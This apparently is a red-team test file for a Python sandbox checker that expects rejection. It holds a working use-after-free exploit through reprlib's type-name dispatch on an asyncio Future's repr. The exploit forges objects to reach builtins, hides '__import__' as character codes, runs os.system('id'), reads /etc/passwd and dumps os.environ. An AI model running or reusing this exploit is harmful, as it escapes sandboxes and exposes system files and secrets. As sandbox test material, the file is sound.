# expect: reject memory
# line: 32
# why: round 97 (red team): reprlib's Repr picks repr_list by the name of the object's type, so a Future's repr iterated an instance of a program class named list, whose __iter__ freed the slice a list's C repr was formatting (id, /etc/passwd, os.environ); the dunders of a class named like a Repr dispatch are text hooks
import asyncio

L = []
GBUF = bytearray(1)


def q(v):
    return v.to_bytes(8, "little")


class Fake:
    def __repr__(self):
        raise ValueError(self)


def g():
    return 0


HDR = q(1 << 40) + q(id(Fake))


def make():
    class list:
        def __len__(self):
            return 0

        def __iter__(self):
            global GBUF
            L.clear()
            GBUF = bytearray(95)
            GBUF[0:16] = HDR
            return iter(())

    return list()


async def main():
    fut = asyncio.Future()
    fut.set_result(make())
    return fut


FUT = asyncio.run(main())
n = 40
L.append(slice(FUT, "q" * n))
try:
    text = repr(L)
    mem = None
except ValueError as e:
    mem = e.args[0]
GBUF[8:48] = q(id(list)) + q(2) + q(id(g) + 16) + q(2) + q(0)
bt = mem[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
